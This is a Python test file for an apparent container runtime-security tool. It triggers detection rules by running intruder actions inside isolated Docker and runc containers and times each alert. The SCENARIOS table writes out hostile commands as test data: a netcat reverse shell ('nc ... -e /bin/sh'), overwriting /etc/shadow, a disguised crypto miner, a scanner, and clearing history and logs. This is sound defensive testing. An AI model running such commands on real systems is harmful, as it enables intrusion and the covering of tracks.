"""Rules on the running kernel: what an intruder does in real containers raises its rule, in text and in the view.

Everything is done once, in one container of Docker's and one of bare runc's, while both look on. `pytest -s` prints how long each
alert took.
"""

import asyncio
import contextlib
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from screen import text_of

from csyspy.capture.live import tier
from csyspy.cli.command import Command
from csyspy.cli.metadata import open_metadata
from csyspy.rules.settings import own_rules_files
from csyspy.tui.app import CsyspyApp
from csyspy.tui.screens.alerts import AlertsScreen
from csyspy.tui.stream_feed import StreamFeed

from .conftest import DEADLINE_S, Runtime

ELSEWHERE = "192.0.2.1"  # of no network (RFC 5737): it exists in the container's own loopback only
BEGUN = "Command run in running container"
WITH_TERMINAL = "Interactive shell in container"
BARE = "5ea1" * 16
"""Id of the container without a runtime that could name it."""


def until(command: str) -> str:
    """A command for a shell, done again until it comes off: who listens may need a while until it does."""
    return f"n=0; until {command} || [ $n = 100 ]; do n=$((n+1)); sleep 0.1; done"


SCENARIOS = {
    "Credential file read": "echo root::0 > /etc/shadow; cat /etc/shadow",
    "Configuration below etc written": "echo x > /etc/profile.local",
    "Program directory changed": "cp /bin/busybox /bin/ls-of-mine",
    "Package manager in container": "ln -sf busybox /bin/apk; apk add x",
    "Crypto miner started": "cp /bin/busybox /tmp/xmrig; /tmp/xmrig",
    "New program run in container": "cp /bin/busybox /tmp/busybox; /tmp/busybox true",
    "Unexpected outbound connection": f"(nc -l -p 4444 </dev/null & {until(f'echo | nc {ELSEWHERE} 4444')})",
    "Reverse shell": f"(echo exit | nc -l -p 4445 & {until(f'nc {ELSEWHERE} 4445 -e /bin/sh')})",
    "Network scanner started": "nc -z -w 1 127.0.0.1 7; cp /bin/busybox /tmp/nmap; /tmp/nmap -sS 127.0.0.1",
    "Shell history cleared": "echo x > /root/.bash_history; rm /root/.bash_history",
    "Log cleared": "mkdir -p /var/log; echo x > /var/log/app.log; : > /var/log/app.log",
}
BARE_SCENARIOS = ("Credential file read", "Configuration below etc written", "Crypto miner started", "Shell history cleared", "Log cleared")
WANTED = {(rule, "victim") for rule in (*SCENARIOS, WITH_TERMINAL)} | {(rule, BARE[:12]) for rule in BARE_SCENARIOS}


def script(rules: Iterator[str] | tuple[str, ...]) -> list[str]:
    """The command that does what these rules are about."""
    return ["sh", "-c", "; ".join(["mkdir -p /root /tmp", *(SCENARIOS[rule] for rule in rules)])]


@dataclass
class Seen:
    """What came of it, by rule and container: the alerts in text, the lines of the view, and after how many seconds each was there."""

    alerts: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)
    text_s: dict[tuple[str, str], float] = field(default_factory=dict)
    view_s: dict[tuple[str, str], float] = field(default_factory=dict)
    screen: str = ""
    said: str = ""

    def alert(self, line: str) -> None:
        """Take an alert from text mode."""
        now_ns = time.time_ns()
        alert = json.loads(line)
        fields = alert["output_fields"]
        key = alert["rule"], str(fields["container.name"] or fields["container.id"])
        if key not in self.alerts:
            self.alerts[key] = alert
            self.text_s[key] = (now_ns - int(fields["evt.time.iso8601"])) / 1e9

    def complaint(self, line: str) -> None:
        """Take a line of standard error."""
        self.said += line

    def line(self, line: str) -> None:
        """Take a line of the view."""
        for rule, container in (*WANTED - self.view_s.keys(), (BEGUN, "victim")):
            if line.startswith(f"{rule} {container} ") and (rule, container) not in self.view_s:
                hours, minutes, seconds = re.findall(r" (\d\d):(\d\d):(\d\d\.\d{9}): ", line)[0]
                now = time.localtime()
                past_s = (now.tm_hour - int(hours)) * 3600 + (now.tm_min - int(minutes)) * 60 + now.tm_sec - float(seconds)
                self.view_s[rule, container] = past_s + time.time() % 1

    def missing(self) -> set[tuple[str, str]]:
        """What is not there yet."""
        return WANTED - (self.text_s.keys() & self.view_s.keys())

    def table(self) -> str:
        """How long it took from each call to its alert."""
        lines = [f"{'from the system call to the alert, ms':48}{'text':>8}{'view':>8}"]
        for rule, container in sorted(WANTED):
            took = [where.get((rule, container), float("nan")) * 1000 for where in (self.text_s, self.view_s)]
            lines.append(f"{f'{rule}, {container}':48}{took[0]:8.0f}{took[1]:8.0f}")
        return "\n".join(lines)


@pytest.fixture(scope="module")
def victim(docker: Runtime) -> str:
    """A container that waits, in a network of its own that holds ELSEWHERE."""
    full_id = docker.run("run", "-d", "--name", "victim", "--network", "none", "busybox:lab")
    pid = docker.run("inspect", "-f", "{{.State.Pid}}", full_id)
    inside = ["nsenter", "-t", pid, "-n"]
    subprocess.run([*inside, "ip", "link", "set", "lo", "up"], check=True)
    subprocess.run([*inside, "ip", "addr", "add", f"{ELSEWHERE}/32", "dev", "lo"], check=True)
    return full_id


@pytest.fixture(scope="module")
def bare(image_tar: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[str]]:
    """The command that runs BARE_SCENARIOS in a container of runc's, below the control group of a pod."""
    bundle = tmp_path_factory.mktemp("bare")
    with tarfile.open(image_tar) as tar:
        tar.extractall(bundle / "rootfs", filter="fully_trusted")
    for name in ("proc", "sys", "dev", "tmp", "etc"):
        (bundle / "rootfs" / name).mkdir()
    for name in ("cat", "cp", "mkdir", "rm"):
        (bundle / "rootfs" / "bin" / name).symlink_to("busybox")
    subprocess.run(["runc", "spec"], cwd=bundle, check=True)
    spec = json.loads((bundle / "config.json").read_text())
    spec["process"] |= {"terminal": False, "args": script(BARE_SCENARIOS), "rlimits": []}
    spec["root"]["readonly"] = False
    spec["linux"]["cgroupsPath"] = path = f"/kubepods/besteffort/podbare/{BARE}"
    spec["linux"].pop("resources", None)
    (bundle / "config.json").write_text(json.dumps(spec))
    yield ["runc", "--root", str(bundle / "state"), "run", "--bundle", str(bundle), "csyspy-bare"]
    for root in Path("/sys/fs/cgroup").iterdir():
        for parent in (path, *Path(path).parents[:-1]):  # runc leaves the parents; those that are empty go
            with contextlib.suppress(OSError):
                Path(f"{root}{parent}").rmdir()


@pytest.fixture(scope="module")
def seen(docker: Runtime, victim: str, bare: list[str]) -> Seen:
    missing = tier.lacking(tier.Tier.A, tier.possibilities())
    if missing is not None:
        pytest.skip(f"needs live capture: {missing.message}")
    if shutil.which("script") is None:
        pytest.skip("needs script (Debian package bsdutils)")
    seen = Seen()
    words = [sys.executable, "-m", "csyspy", "rules", "--json", "-U", "-pc"]
    environment = {**os.environ, "DOCKER_HOST": f"unix://{docker.socket}"}
    with subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment) as text:
        for stream, take in ((text.stdout, seen.alert), (text.stderr, seen.complaint)):
            assert stream is not None
            threading.Thread(target=lambda stream=stream, take=take: [take(line) for line in stream], daemon=True).start()
        try:
            asyncio.run(look(seen, docker, victim, bare))
        finally:
            text.terminate()
    print(f"\n{seen.table()}")
    return seen


async def look(seen: Seen, docker: Runtime, victim: str, bare: list[str]) -> None:
    """Do everything while the view looks on, until all is there; again what did not come to the point on a machine that was too busy."""
    docker_exec = ["docker", "-H", f"unix://{docker.socket}", "exec"]
    with_terminal = ["script", "-qec", f"{' '.join(docker_exec)} -it {victim} sh -c exit", "/dev/null"]
    feed = StreamFeed(1.0, open_metadata(Command(docker_host=f"unix://{docker.socket}")))
    app = CsyspyApp(feed, rules_files=own_rules_files())
    async with app.run_test(size=(200, 50)) as pilot:
        await pilot.press("A")
        screen = app.screen
        assert isinstance(screen, AlertsScreen)

        async def wait(true: Callable[[], object], seconds: float) -> bool:
            give_up = time.monotonic() + seconds
            while not true() and time.monotonic() < give_up:
                await pilot.pause(0.05)
                for number in range(screen.line_count):
                    seen.line(screen.line_text(number))
            return bool(true())

        async def do(commands: list[list[str]]) -> None:
            nothing = subprocess.DEVNULL
            running = [subprocess.Popen(words, stdin=nothing, stdout=nothing, stderr=nothing) for words in commands]
            ended = await wait(lambda: all(process.poll() is not None for process in running), DEADLINE_S)
            assert ended, [process.args for process in running if process.poll() is None]

        give_up = time.monotonic() + DEADLINE_S
        both = (seen.text_s, seen.view_s)
        while not await wait(lambda: all((BEGUN, "victim") in where for where in both), 0.3):  # until everything is hooked
            assert time.monotonic() < give_up, (app.said, seen.said)
            await do([[*docker_exec, victim, "true"]])
        give_up = time.monotonic() + DEADLINE_S
        while (missing := seen.missing()) and time.monotonic() < give_up:
            rules = tuple(rule for rule in SCENARIOS if (rule, "victim") in missing)
            commands = [[*docker_exec, victim, *script(rules)]] if rules else []
            commands += [with_terminal] if (WITH_TERMINAL, "victim") in missing else []
            commands += [bare] if any(container == BARE[:12] for _, container in missing) else []
            await do(commands)
            await wait(lambda: not seen.missing(), DEADLINE_S / 12)
        seen.screen = text_of(app)


@pytest.mark.parametrize(("rule", "container"), sorted(WANTED))
def test_a_scenario_raises_its_rule_in_text_and_in_the_view(rule: str, container: str, seen: Seen) -> None:
    key = rule, container
    assert key in seen.alerts, seen.said
    assert key in seen.view_s, seen.screen
    fields = seen.alerts[key]["output_fields"]
    if container == "victim":
        assert fields["container.image.repository"] == "busybox"
    else:
        assert (fields["container.id"], fields["container.name"]) == (container, None)


def test_all_of_it_stands_on_the_screen(seen: Seen) -> None:
    assert "victim" in seen.screen
    assert BARE[:12] in seen.screen
    assert "▲ Critical" in seen.screen
    assert "Traceback" not in seen.said
